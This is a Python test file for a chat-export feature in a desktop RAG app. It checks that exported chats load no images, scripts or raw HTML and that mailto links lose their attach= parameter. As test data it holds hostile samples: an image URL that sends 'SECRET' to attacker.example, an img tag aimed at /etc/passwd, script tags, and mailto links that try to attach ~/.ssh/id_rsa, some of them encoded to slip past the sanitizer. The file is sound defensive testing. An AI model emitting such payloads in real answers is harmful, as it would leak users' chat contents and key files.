"""An exported chat loads nothing and acts on nothing when it is viewed: a remote image the model wrote (its
address can carry the chat's words to a stranger's server) becomes a link, raw HTML stays text, and a mailto:
link loses attach=. Code keeps what it holds. Copy gives the Markdown as the model wrote it."""

from __future__ import annotations

import re

import markdown
import pytest

from tinyrag_desktop.chat_export import answer_markdown, export_html, export_markdown, inert_markdown, markdown_safe
from tinyrag_desktop.markdown_prep import code_spans
from tinyrag_desktop.chats import ChatInfo, StoredMessage

LEAK = "http://attacker.example/leak.png?d=SECRET"
HOSTILE = (f"See ![chart]({LEAK}) and ![]({LEAK}) and [![badge]({LEAK})](https://example.org/).\n\n"
           '<img src="file:///etc/passwd" width=99999> <script>alert(1)</script> <span style="x">s</span>\n\n'
           "Write to [us](mailto:help@example.org?subject=Logs&attach=/home/me/.ssh/id_rsa).\n\n"
           "```html\n<script>kept()</script>\n![in code](http://in.code/x.png)\n```\n\n"
           "Use `<img src=x>` and List<String>, or <https://example.org/>. A \\![not an image](u).")


def _chat() -> tuple[ChatInfo, list[StoredMessage]]:
    return ChatInfo("c", "Chat", "", 0, 0), [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", HOSTILE)]


def _elements(page: str, tag: str) -> list[str]:
    return re.findall(rf"<{tag}\b[^>]*>", page, re.I)


def test_the_html_export_shows_images_as_links_and_loads_none():
    page = export_html(*_chat())
    assert _elements(page, "img") == []
    assert f'<a href="{LEAK.replace("&", "&amp;")}">Image: chart</a>' in page
    assert "attach" not in page and 'href="mailto:help@example.org?subject=Logs"' in page


def test_the_markdown_export_loads_nothing_when_viewed():
    for text in (export_markdown(*_chat()),):
        viewed = markdown.markdown(text, extensions=["fenced_code"])  # a viewer that renders raw HTML
        assert _elements(viewed, "img") == [] and _elements(viewed, "script") == []
        assert _elements(viewed, "span") == []
        assert f'href="{LEAK.replace("&", "&amp;")}"' in viewed  # the image is a link to its address
        assert "attach" not in text and "mailto:help@example.org?subject=Logs" in text
        # the model's words are all there, as text
        assert '`<img src="file:///etc/passwd" width=99999>`' in text and "`<script>`alert(1)`</script>`" in text
        # code as written: a fenced block's lines, a code span, an autolink
        assert "```html\n<script>kept()</script>\n![in code](http://in.code/x.png)\n```" in text
        assert "`<img src=x>`" in text and "<https://example.org/>" in text and "\\![not an image](u)" in text


def test_copy_gives_the_answers_markdown_as_written():
    # pasted where its text is seen (a note, a message): the model's Markdown, images and all
    assert answer_markdown(_chat()[1][1]) == HOSTILE + "\n"


def test_a_tag_with_a_stray_angle_bracket_or_a_slash_still_loads_nothing():
    # The tag pattern stopped at a "<" inside the tag, and left it whole for the viewer to load.
    for tag in ('<img src="http://attacker.example/?d=SECRET&x=<">', "<img/src=http://attacker.example/x.png>",
                '<img src="http://attacker.example/x.png"', "<!-- a comment -->"):
        text = export_markdown(ChatInfo("c", "Chat", "", 0, 0),
                               [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", f"Look: {tag} done")])
        viewed = markdown.markdown(text)
        assert _elements(viewed, "img") == [] and "<!--" not in viewed, text
        assert "done" in viewed


def test_a_mailto_address_spelt_as_a_viewer_decodes_it_loses_attach_too():
    for address in ("mailto\\:help@example.org?attach=/etc/passwd", "mailto&#58;help@example.org?attach=/etc/passwd",
                    "MAILTO&#x3A;help@example.org?subject=Hi&attach=/etc/passwd"):
        text = export_markdown(ChatInfo("c", "Chat", "", 0, 0),
                               [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", f"[us]({address})")])
        assert "attach" not in text and "help@example.org" in text, text


@pytest.mark.parametrize("text, spans", [
    ("a `b` c", ["`b`"]),
    ("``a ` b`` and `c`", ["``a ` b``", "`c`"]),
    ("```a``", []),  # no run of three closes it: backticks as written
    ("` a `` b `", ["` a `` b `"]),  # a run of two inside one of one
    ("`a\nb`", ["`a\nb`"]),
    ("x`````y", []),
])
def test_a_code_span_is_a_run_of_backticks_closed_by_as_many(text, spans):
    assert [text[start:end] for start, end, _ticks in code_spans(text)] == spans


@pytest.mark.timeout(30)
def test_a_long_run_of_backticks_in_an_answer_is_exported_at_once():
    # The code span's regular expression took time quadratic in a run of backticks: about 100 s for these.
    ticks = "`" * 100_000
    assert markdown_safe(f"{ticks} <b> `<i>`") == f"{ticks} `<b>` `<i>`"
    assert inert_markdown(f"a {ticks} <b>") == f"a {ticks} `<b>`"


def test_a_reply_holding_a_character_number_too_long_to_read_is_exported() -> None:
    # html.unescape raised "ValueError: Exceeds the limit (4300 digits)" on a mailto: address or a link
    number = "&#" + "1" * 5000 + ";"
    reply = f"Write to [us](mailto:help@example.org?subject={number}) or [them](mailto:a{number}@b.org), `{number}`."
    chat = ChatInfo("c", "Chat", "", 0, 0), [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", reply)]
    assert "help@example.org" in export_markdown(*chat) and "help@example.org" in export_html(*chat)


@pytest.mark.timeout(10)
def test_a_log_line_full_of_brackets_is_exported_at_once_with_every_bracket() -> None:
    # Python-Markdown read from each "[" that no "]" closes to the paragraph's end, several times over: this
    # line (60,000 characters) took 50 s, the window frozen.
    line = "a[i] of disk [sda1 at [[0x1f, " * 2000
    reply = f"{line}\n\nSee [the guide](https://example.org/guide).\n\n```python\nx = a[b[0\n```"
    page = export_html(ChatInfo("c", "Chat", "", 0, 0), [StoredMessage(1, "user", "hi"),
                                                          StoredMessage(2, "assistant", reply)])
    body = page[page.index("a[i] of disk"):]
    assert body.count("[") == line.count("[") + 2  # every one shown, and the two in the code
    assert " a[b[<span" in body  # the code's as it is, coloured as Python
    assert '<a href="https://example.org/guide">the guide</a>' in page
    assert "\ue0f2" not in page


def test_a_link_whose_words_hold_code_with_a_bracket_is_exported_as_a_link() -> None:
    reply = "Press [the `[` key](https://vim.example/motion) to go back, or [`a[0`](https://example.org/a)."
    page = export_html(ChatInfo("c", "Chat", "", 0, 0), [StoredMessage(1, "user", "hi"),
                                                          StoredMessage(2, "assistant", reply)])
    assert 'href="https://vim.example/motion">the <code' in page and 'href="https://example.org/a"><code' in page
    assert "](" not in page[page.index("Press"):]


def test_markdown_nested_deeper_than_python_markdown_can_read_is_exported_as_plain_text(monkeypatch) -> None:
    from tinyrag_desktop import chat_export

    monkeypatch.setattr(chat_export, "nest_lists", lambda text: text)  # a nesting the caps do not know
    reply = "\n".join("    " * level + f"- item <{level}>" for level in range(400))
    page = export_html(ChatInfo("c", "Chat", "", 0, 0), [StoredMessage(1, "user", "hi"),
                                                          StoredMessage(2, "assistant", reply)])
    assert "- item &lt;399&gt;" in page
    # and the converter is as new after it: its parser was left inside the lists, every later export wrong
    monkeypatch.undo()
    later = [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", "Steps:\n\n1. one\n2. two\n\nDone.")]
    assert export_html(ChatInfo("c", "Chat", "", 0, 0), later).count("<li>") == 2
    assert "<p>Done.</p>" in export_html(ChatInfo("c", "Chat", "", 0, 0), later)
